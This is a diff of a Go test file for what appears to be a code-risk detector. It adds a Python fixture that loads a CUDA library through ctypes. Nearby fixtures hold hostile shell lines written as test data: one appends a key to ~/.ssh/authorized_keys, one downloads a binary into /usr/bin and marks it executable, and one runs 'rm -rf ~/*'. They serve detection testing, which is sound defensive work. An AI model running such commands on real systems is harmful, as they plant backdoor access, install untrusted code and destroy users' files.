@@ -68,6 +68,7 @@ func TestDetector(t *testing.T) {
 
 	add("Python that does much", "train.py", []byte("import os, subprocess\nos.system('echo poc')\nsubprocess.run(['git', 'status'])\nexec(open('v.py').read())\n"))
 	add("a handler that starts programs when asked", "handler.py", []byte("import os\ndef f():\n    os.system('echo poc')\n"))
+	add("a handler with a library", "handler.py", []byte("import ctypes\nctypes.CDLL('libcudart.so')\n"))
 	add("a shell script", "run.sh", []byte("set -e\ncurl -o x.tgz https://example.org/x.tgz\ntar xf x.tgz\n"))
 	add("a script that sets a machine up", "boot.sh", []byte("echo 'export A=1' >> ~/.bashrc\ncat key >> ~/.ssh/authorized_keys\ncurl -o /usr/bin/k https://example.org/k\nchmod +x /usr/bin/k\nrm -rf ~/*\n"))
 	add("a notebook", "a.ipynb", notebook("!pip install x", "%cd x\nprint(1)"))
